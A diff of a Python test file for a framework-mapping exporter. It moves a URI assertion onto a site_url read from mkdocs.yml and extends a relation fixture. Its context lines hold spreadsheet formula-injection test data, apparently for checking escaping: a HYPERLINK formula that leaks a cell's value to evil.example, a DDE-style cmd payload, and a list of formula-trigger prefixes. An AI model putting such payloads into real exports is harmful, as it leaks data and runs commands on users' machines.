@@ -34,6 +34,9 @@ from generator.model import (
 
 from .helpers import ROOT, SHARED, model_of, run_cli
 
+#: The published address, read from mkdocs.yml as plain text (the one source the CASE URIs must follow).
+SITE_URL = re.findall(r"^site_url: (\S+)$", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"), re.M)[0]
+
 CASE_SCHEMA = SHARED / "reference" / "case-v1p1-cfpackage-schema.json"
 UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
@@ -195,7 +198,7 @@ EVIL = ['=HYPERLINK("https://evil.example/?x="&A1,"click me")', "@SUM(1+1)*cmd|'
 @pytest.fixture()
 def evil_model() -> Model:
     relation = Relation("related", Label("Related", "Verwant"), _text("Related."), "skos:relatedMatch",
-                        "isRelatedTo", "related", 1)
+                        "isRelatedTo", "related", 1, "~", "#bf360c")
     mapping = Mapping("EVIL:1", "SAFE:1", "related", _text("=1+1 is the rationale"), "=team", "2024-05-07")
     return Model((_framework("EVIL", EVIL), _framework("SAFE", ["safe"])), (relation,),
                  (MappingSet("EVIL--SAFE", "EVIL", "SAFE", (mapping,)),))
@@ -269,7 +272,7 @@ def test_case_packages_validate_and_hold_the_model(tmp_path: Path, model: Model)
             doc = package["CFDocument"]
             documents[(framework.id, lang)] = doc["identifier"]
             assert (doc["language"], doc["title"], doc["caseVersion"]) == (lang, framework.title.get(lang), "1.1")
-            assert doc["uri"] == f"https://coachref.example.org/case/{doc['identifier']}"
+            assert doc["uri"] == f"{SITE_URL}case/{doc['identifier']}"
             items = {i["humanCodingScheme"]: i for i in package["CFItems"]}
             expected = [g.id for g in framework.groups] + [i.id for i in _items(model, framework)]
             assert sorted(items) == sorted(expected)
